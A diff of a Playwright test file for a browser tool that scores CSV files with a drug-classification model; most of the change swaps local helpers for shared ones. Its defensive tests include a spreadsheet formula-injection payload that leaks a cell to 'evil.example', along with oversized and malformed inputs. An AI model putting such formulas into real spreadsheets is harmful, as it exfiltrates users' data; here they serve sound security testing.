@@ -6,13 +6,16 @@ import { expect, type Locator, type Page, test } from '@playwright/test';
 import Papa from 'papaparse';
 import { builtinManifest, builtinModelBytes } from '../fixtures/builtin-names/builtin-names';
 import {
+  batchElement,
   fieldMessage,
   numberField,
   radio,
   readRepoFile,
   shownLabel,
+  uploadCsv,
   waitForPrediction,
 } from './helpers';
+import { HEADER, ROWS } from '../drug-sample-rows';
 
 // Time bounds, as the longest main-thread task (PerformanceObserver 'longtask'). They catch the
 // freezes the adversarial run found by a wide margin (a 100,000-digit value: 27 s, 40,000 digits:
@@ -228,20 +231,6 @@ test('embed.html names a ?parent= that is not an origin', async ({ page }) => {
 
 // ── CSV files ─────────────────────────────────────────────────────────────────────────────────
 
-const HEADER = 'id,Age,Sex,BP,Cholesterol,Na_to_K';
-const ROWS = [
-  '1,23,F,HIGH,HIGH,25.355',
-  '2,47,M,LOW,HIGH,13.093',
-  '3,47,M,LOW,HIGH,10.114',
-  '4,28,F,NORMAL,HIGH,7.798',
-  '5,61,F,LOW,HIGH,18.043',
-  '6,22,F,NORMAL,HIGH,29.710',
-];
-
-function batch(page: Page): Locator {
-  return page.locator('formcast-batch');
-}
-
 async function openBatch(page: Page): Promise<void> {
   await watchMainThread(page);
   await page.goto('./');
@@ -249,18 +238,11 @@ async function openBatch(page: Page): Promise<void> {
   await expect(page.getByRole('heading', { name: 'Score a CSV file' })).toBeVisible();
 }
 
-async function upload(page: Page, name: string, content: Buffer | string): Promise<void> {
-  const buffer = typeof content === 'string' ? Buffer.from(content) : content;
-  await batch(page)
-    .locator('input[type="file"]')
-    .setInputFiles({ name, mimeType: 'text/csv', buffer });
-}
-
 /** Scores `content` and returns the scored file's rows (header first). */
 async function scoreFile(page: Page, name: string, content: Buffer | string): Promise<string[][]> {
-  await upload(page, name, content);
-  const link = batch(page).getByRole('link', { name: 'Download scored CSV' });
-  await expect(batch(page).getByRole('heading', { name: `Scored “${name}”` })).toBeVisible();
+  await uploadCsv(page, name, content);
+  const link = batchElement(page).getByRole('link', { name: 'Download scored CSV' });
+  await expect(batchElement(page).getByRole('heading', { name: `Scored “${name}”` })).toBeVisible();
   const [file] = await Promise.all([page.waitForEvent('download'), link.click()]);
   const text = readFileSync((await file.path())!, 'utf8');
   expect(text.endsWith('\r\n')).toBe(true);
@@ -300,7 +282,9 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
     expect(error('9')).toBe(`BP: "${INJECTIONS[0]}" is not one of HIGH, LOW, NORMAL`);
     // The 100,000 digits are kept in the file as they were.
     expect(rows.find((r) => r[0] === '8')![1]).toBe(`${'1'.repeat(100_000)}x`);
-    await expect(batch(page).getByTestId('batch-errors')).toContainText('(100,001 characters)');
+    await expect(batchElement(page).getByTestId('batch-errors')).toContainText(
+      '(100,001 characters)',
+    );
     expect(await longestTaskSince(page, since)).toBeLessThan(FORM_TASK_MS);
     await expectNoScriptRan(page);
   });
@@ -311,12 +295,12 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
     await openBatch(page);
     // First a model that cannot be downloaded for the batch's worker: Try again scores the file.
     await page.route('**/models/drug/model*.onnx', (route) => route.fulfill({ status: 404 }));
-    await upload(page, 'first.csv', `${HEADER}\n${ROWS[0]}\n`);
-    const failure = batch(page).locator('[part="error"]');
+    await uploadCsv(page, 'first.csv', `${HEADER}\n${ROWS[0]}\n`);
+    const failure = batchElement(page).locator('[part="error"]');
     await expect(failure).toHaveAttribute('data-code', 'MODEL_FETCH_FAILED');
     await page.unroute('**/models/drug/model*.onnx');
     await failure.getByRole('button', { name: 'Try again' }).click();
-    await expect(batch(page).getByTestId('batch-summary')).toContainText('1 row: 1 scored');
+    await expect(batchElement(page).getByTestId('batch-summary')).toContainText('1 row: 1 scored');
 
     const formulas = [
       '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
@@ -333,7 +317,7 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
     expect(once[6]!.slice(1, 2)).toEqual(['-5']); // a signed number is data
     // The preview shows the cells as they are: it is not a spreadsheet.
     await expect(
-      batch(page).getByTestId('batch-preview').locator('tbody tr').first(),
+      batchElement(page).getByTestId('batch-preview').locator('tbody tr').first(),
     ).toContainText(formulas[0]!);
 
     // The scored file, scored again: its prediction columns are replaced, not repeated.
@@ -341,14 +325,14 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
     const twice = await scoreFile(page, 'formulas-scored.csv', text);
     expect(twice[0]).toEqual(once[0]);
     expect(twice.slice(1).map((r) => r.slice(7))).toEqual(once.slice(1).map((r) => r.slice(7)));
-    await expect(batch(page).getByTestId('batch-replaced')).toContainText(
+    await expect(batchElement(page).getByTestId('batch-replaced')).toContainText(
       'The file already had prediction columns',
     );
 
     const before = Buffer.from(`${HEADER}\n1,23,F,HIGH,HIGH,25.355\n2,Zo`);
     const latin1 = Buffer.concat([before, Buffer.from([0xeb]), Buffer.from(',F,HIGH,HIGH,10\n')]);
-    await upload(page, 'latin1.csv', latin1);
-    await expect(batch(page).locator('[part="error"]')).toContainText(
+    await uploadCsv(page, 'latin1.csv', latin1);
+    await expect(batchElement(page).locator('[part="error"]')).toContainText(
       `"latin1.csv" is not UTF-8 text: byte ${before.length} (0xEB) on line 3, after "2,Zo", is not valid UTF-8.`,
     );
   });
@@ -359,9 +343,9 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
     const CELL_CHARS = 2_000_000;
     await openBatch(page);
     const huge = `${HEADER},note\n1,47,F,HIGH,HIGH,14,${'n'.repeat(CELL_CHARS)}\n2,23,F,HIGH,HIGH,25,short\n`;
-    await upload(page, 'huge-cell.csv', huge);
-    await expect(batch(page).getByTestId('batch-summary')).toContainText('2 rows: 2 scored');
-    const cell = batch(page)
+    await uploadCsv(page, 'huge-cell.csv', huge);
+    await expect(batchElement(page).getByTestId('batch-summary')).toContainText('2 rows: 2 scored');
+    const cell = batchElement(page)
       .getByTestId('batch-preview')
       .locator('tbody tr')
       .first()
@@ -372,9 +356,9 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
 
     const extra = Array.from({ length: 10_000 }, (_, i) => `c${i}`);
     const wide = `${HEADER},${extra.join(',')}\n${ROWS.map((r) => `${r},${extra.join(',')}`).join('\n')}\n`;
-    await upload(page, 'wide.csv', wide);
-    await expect(batch(page).getByTestId('batch-summary')).toContainText('6 rows: 6 scored');
-    await expect(batch(page).getByTestId('batch-preview-cut')).toHaveText(
+    await uploadCsv(page, 'wide.csv', wide);
+    await expect(batchElement(page).getByTestId('batch-summary')).toContainText('6 rows: 6 scored');
+    await expect(batchElement(page).getByTestId('batch-preview-cut')).toHaveText(
       'The preview shows the first 20 of 10,006 input columns; the scored file has them all.',
     );
     expect(await longestTaskSince(page, await fileChosenAt(page))).toBeLessThan(PREVIEW_TASK_MS);
